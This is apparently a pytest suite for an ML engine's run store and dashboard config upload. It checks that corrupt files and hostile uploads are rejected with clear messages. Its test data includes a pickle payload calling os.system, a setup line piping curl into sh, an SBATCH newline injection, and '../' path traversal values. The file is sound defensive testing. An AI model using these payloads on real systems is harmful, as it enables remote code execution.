"""Run-store faults and the dashboard's upload path: clear messages, every other run still
listed, nothing in the store changed."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
import torch

from engine.config import ExperimentConfig
from engine.runs import RunStore
from engine.training.loop import load_checkpoint
from tests.badinput.conftest import Case, land, params

TINY = ExperimentConfig(name="tiny").replace(data={"patch_size": 32}, model={"filters": 8, "blocks": 1},
                                             training={"epochs": 1, "samples_per_epoch": 32, "batch_size": 8})


def snapshot(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and p.name != ".lock"}


def store_with(env, status: bytes | None = None, events: bytes | None = None, config: bytes | None = None):
    """A store with a healthy run and a damaged one; returns (store, healthy, damaged)."""
    store = RunStore(env.runs)
    good = store.create(TINY, run_id="healthy")
    good.log_event("epoch", epoch=0, val_loss=1.0)
    good.update_status(state="completed", progress=1.0)
    bad = store.create(TINY, run_id="damaged")
    if status is not None:
        bad.status_path.write_bytes(status)
    if events is not None:
        bad.events_path.write_bytes(events)
    if config is not None:
        bad.config_path.write_bytes(config)
    return store, good, bad


def listed_as_corrupt(status: bytes):
    def run(env):
        store, good, bad = store_with(env, status=status)
        before = snapshot(env.runs)
        rows = {r.run_id: r.check_worker()["state"] for r in store.list()}
        assert snapshot(env.runs) == before  # listing changed nothing
        return rows
    return run


def checkpoint_file(content: bytes | None = None, obj=None):
    def run(env):
        path = env.runs / "last.pt"
        if obj is not None:
            torch.save(obj, path)
        else:
            path.write_bytes(content)
        return load_checkpoint(path)
    return run


def _valid_checkpoint_bytes() -> bytes:
    import io

    buf = io.BytesIO()
    torch.save({"model": {"w": torch.ones(64, 64)}, "epoch": 3}, buf)
    return buf.getvalue()


GOOD_CKPT = _valid_checkpoint_bytes()
CORRUPT_ROWS = lambda rows: rows == {"healthy": "completed", "damaged": "corrupt"}  # noqa: E731


def _resume_corrupt(env):
    from engine.launch import resume

    store, good, bad = store_with(env, status=b"{")
    before = snapshot(env.runs)
    try:
        return resume("damaged", store)
    finally:
        assert snapshot(env.runs) == before


def _get(run_id):
    return lambda env: RunStore(env.runs).get(run_id)


def _config_of_damaged(config: bytes):
    def run(env):
        store, good, bad = store_with(env, config=config)
        return bad.config
    return run


def _events(events: bytes):
    def run(env):
        store, good, bad = store_with(env, events=events)
        return [e["epoch"] for e in bad.epochs()]
    return run


def _upload(text: bytes):
    """The dashboard's upload: AppState.load_yaml, then the checks its Train button runs."""
    def run(env):
        from app.state import AppState

        state = AppState(run_root=str(env.runs))
        if not state.load_yaml(text):
            raise UploadRefused(state.message)
        return state.build_config().validate()
    return run


class UploadRefused(ValueError):
    """The dashboard said "Not loaded: ..." (its message is the user's)."""


UploadRefused.__module__ = "engine.upload"  # the dashboard's own refusal counts as a clear message

CASES = [
    *[Case(f"status-{name}", "result", listed_as_corrupt(raw), check=CORRUPT_ROWS) for name, raw in [
        ("truncated", b'{"state": "runn'), ("empty", b""), ("list", b"[1, 2]"), ("string", b'"running"'),
        ("binary", os.urandom(32) + b"\xff"), ("state-number", b'{"state": 3}'), ("null", b"null")]],
    Case("resume-corrupt-status", "message", _resume_corrupt, ("status file", "damaged", "corrupt")),
    Case("events-epoch-text", "result", _events(b'{"kind": "epoch", "epoch": "abc"}\n{"kind": "epoch", "epoch": 1}\n'),
         check=lambda e: e == [1]),
    Case("events-garbage", "result", _events(os.urandom(64).replace(b"\n", b"") + b"\n[1]\nnull\n"), check=lambda e: e == []),
    Case("events-binary-invalid-utf8", "result", _events(b"\xff\xfe\n"), check=lambda e: e == []),
    Case("run-id-parent", "message", _get("../x"), ("run id '../x'", "not valid")),
    Case("run-id-slash", "message", _get("a/b"), ("run id 'a/b'", "not valid")),
    Case("run-id-dotdot", "message", _get(".."), ("run id '..'", "not valid")),
    Case("run-id-unknown", "message", _get("nope"), ("no run 'nope'", "recent runs")),
    Case("config-yaml-broken", "message", _config_of_damaged(b"name: x\ndata: {patch_size: [\n"), ("config.yaml", "line 3", "not valid YAML")),
    Case("config-unknown-section", "message", _config_of_damaged(b"oops: 1\n"), ("unknown configuration section", "oops")),
    Case("checkpoint-truncated", "message", checkpoint_file(GOOD_CKPT[: len(GOOD_CKPT) // 2]),
         ("last.pt", "is corrupt or not a finescale checkpoint")),
    Case("checkpoint-random", "message", checkpoint_file(os.urandom(2048)), ("last.pt", "is corrupt or not a finescale checkpoint")),
    Case("checkpoint-empty", "message", checkpoint_file(b""), ("last.pt", "is corrupt or not a finescale checkpoint")),
    Case("checkpoint-text", "message", checkpoint_file(b"epoch: 3\n"), ("last.pt", "is corrupt or not a finescale checkpoint")),
    Case("checkpoint-a-list", "message", checkpoint_file(obj=[1, 2, 3]), ("last.pt", "not a dictionary of weights")),
    Case("checkpoint-pickled-code", "message", checkpoint_file(b"cos\nsystem\n(S'touch /tmp/pwned'\ntR."),
         ("last.pt", "is corrupt or not a finescale checkpoint")),
    Case("checkpoint-missing", "message", lambda env: load_checkpoint(env.runs / "gone.pt"), ("gone.pt", "does not exist")),
    Case("checkpoint-valid", "result", checkpoint_file(GOOD_CKPT), check=lambda s: s["epoch"] == 3),
    # the dashboard's upload path (app.state.AppState.load_yaml, then Train's validation)
    Case("upload-setup-line", "message", _upload(b"name: evil\nlaunch:\n  launcher: slurm\n  extra:\n"
                                                 b"    setup: ['touch /tmp/pwned; curl x | sh']\n"),
         ("launch.extra.setup", "site launcher configuration")),
    Case("upload-comment-newline", "message", _upload(b'launch: {launcher: slurm, extra: {comment: "a\\n#SBATCH --wrap=id"}}\n'),
         ("launch.extra.comment", "newline")),
    Case("upload-regression-run-path", "message", _upload(b"training: {learning: diffusion}\nmodel: {regression_run: ../../etc}\n"),
         ("model.regression_run='../../etc'", "not a run id")),
    Case("upload-residual-maybe", "message", _upload(b"model: {residual: maybe}\n"), ("model.residual='maybe'", "true or false")),
    Case("upload-binary", "message", _upload(b"\x00\xff\xfe"), ("not UTF-8",)),
    Case("upload-yaml-syntax", "message", _upload(b"name: x\ndata: {patch_size: [\n"), ("line 3", "not valid YAML")),
    Case("upload-too-large", "message", _upload(b"#" * 300_000 + b"\n"), ("bytes",)),
    Case("upload-residual-false", "result", _upload(b"model: {residual: 'false'}\n"), check=lambda c: c.model.residual is False),
]


@pytest.mark.parametrize("case", params(CASES))
def test_run_store_and_upload(case, env):
    land(case, env)


def test_dashboard_poll_lists_a_corrupt_run_beside_the_others(env):
    from app.state import AppState

    store, good, bad = store_with(env, status=b"{")
    state = AppState(run_root=str(env.runs))
    state.poll()  # must not raise
    rows = {r["run_id"]: r["state"] for r in state.runs}
    assert rows == {"healthy": "completed", "damaged": "corrupt"}
    state.selected_run = "damaged"  # selecting it must not raise either
    assert state.run_status["state"] == "corrupt"
